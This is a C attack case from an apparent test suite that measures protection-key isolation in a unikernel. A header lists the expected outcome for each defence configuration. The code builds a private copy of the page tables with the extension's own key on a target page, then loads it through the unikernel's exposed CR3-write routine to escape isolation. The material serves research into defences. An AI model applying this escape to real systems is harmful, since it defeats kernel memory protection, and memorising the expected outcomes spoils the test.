/*
{
  "title": "Page tables of the extension's own, loaded by the unikernel's MOV to CR3: no check behind it can help, as the next fetch is the attacker's already",
  "precondition": "CR4.PKE = 1",
  "reference": "Dautenhahn et al., Nested Kernel: An Operating System Architecture for Intra-Kernel Privilege Separation, ASPLOS 2015, section 3",
  "symbols": ["write_cr3", "once_write_cr3"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I3", "event": "controlRegisterWrite"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
// The header's own would be what is called by this name.
#define write_cr3 header_write_cr3
#include "processor.h"
#undef write_cr3

// The unikernel's, by one of its names. One that is unmapped after the boot is there by name only.
void write_cr3(uint64_t value) __attribute__((weak));
void once_write_cr3(uint64_t value) __attribute__((weak));

static uint64_t tables[5 * 512];

// Copies the tables that lead to the counter, level by level, and gives it the extension's own key.
static uint64_t own_tables(void) {
  uint64_t *table = (uint64_t *)(((uint64_t)tables + PAGE - 1) & ~(uint64_t)(PAGE - 1));
  const volatile uint64_t *from = (const volatile uint64_t *)(read_cr3() & ADDRESS_MASK);
  uint64_t root = 0;
  volatile uint64_t *link = &root;
  for (int shift = 39;; shift -= 9, table += 512) {
    for (int at = 0; at < 512; at++) table[at] = from[at];
    *link = (*link & ~ADDRESS_MASK) | physical(table);
    link = table + ((uint64_t)&count >> shift & 511);
    if (shift == 12) break;
    from = (const volatile uint64_t *)(*link & ADDRESS_MASK);
  }
  *link = (*link & ~KEY_MASK) | own_key();
  return root;
}

int main(void) {
  BYPASS_OF_KEYS((write_cr3 ? write_cr3 : once_write_cr3)(own_tables()));
  GOAL_COUNT();
  return 0;
}
